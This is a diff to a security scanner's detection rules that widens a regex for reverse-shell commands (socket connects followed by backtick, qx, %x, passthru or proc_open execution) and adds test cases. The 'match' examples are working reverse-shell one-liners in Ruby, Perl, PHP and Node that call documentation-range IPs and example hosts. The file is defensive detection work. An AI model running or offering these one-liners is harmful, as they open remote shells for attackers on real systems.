@@ -564,7 +564,10 @@ RULES = [
             # evaluator (a bare socket is a channel no code is delivered through but a dropper's)
             "code": r"(socket|Socket\(|TCPSocket|TcpClient|TCPClient|createConnection|fsockopen|net\.connect"
             r"|require\(\s*[\"']net[\"']\s*\)\.connect|Socket\.new|IO::Socket).*(dup2|pty\.spawn|/bin/(ba|z)?sh|exec|spawn|popen|system"
-            r"|\beval\b|\bFunction\(|\bload(?:string)?\(|instance_eval|runInThisContext)",
+            r"|\beval\b|\bFunction\(|\bload(?:string)?\(|instance_eval|runInThisContext"
+            # a command run by the language's own syntax for it: Ruby's and Perl's backticks around what
+            # was read (`#{l}`, `$_`; a JavaScript template's `${` is text), %x(), qx(), PHP's passthru
+            r"|`\s*(?:#\{|\$(?!\{))|%x[(\[{]|\bqx\s*[(\[{/]|passthru|proc_open)",
         },
         "examples": {
             "match": [
@@ -574,10 +577,17 @@ RULES = [
                 "s.connect(9001,'203.0.113.8',()=>{const p=c.spawn('/bin/bash');"
                 "s.pipe(p.stdin);p.stdout.pipe(s)})\"",
                 "ruby -rsocket -e 's=TCPSocket.new(\"cdn.example.net\",443); eval(s.read)'",
+                "ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.30\",4000);"
+                "while(l=c.gets);c.print(`#{l}`);end'",
+                "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"192.0.2.9:81\");"
+                "while(<$c>){print $c qx($_)}'",
+                "php -r '$s=fsockopen(\"192.0.2.7\",9001);while($l=fgets($s)){fwrite($s,`$l`);}'",
             ],
             "no_match": ["python3 -c 'import socket; print(socket.gethostname())'",
                          "node -e \"const s=new (require('net').Socket)();"
-                         "s.connect(6379,'127.0.0.1',()=>s.end())\""],
+                         "s.connect(6379,'127.0.0.1',()=>s.end())\"",
+                         "node -e \"const s=require('net').connect(80,'example.com');s.write(`${'GET'} /`)\"",
+                         "ruby -rsocket -e 'puts TCPSocket.gethostbyname(`hostname`.strip)'"],
         },
     },
     {
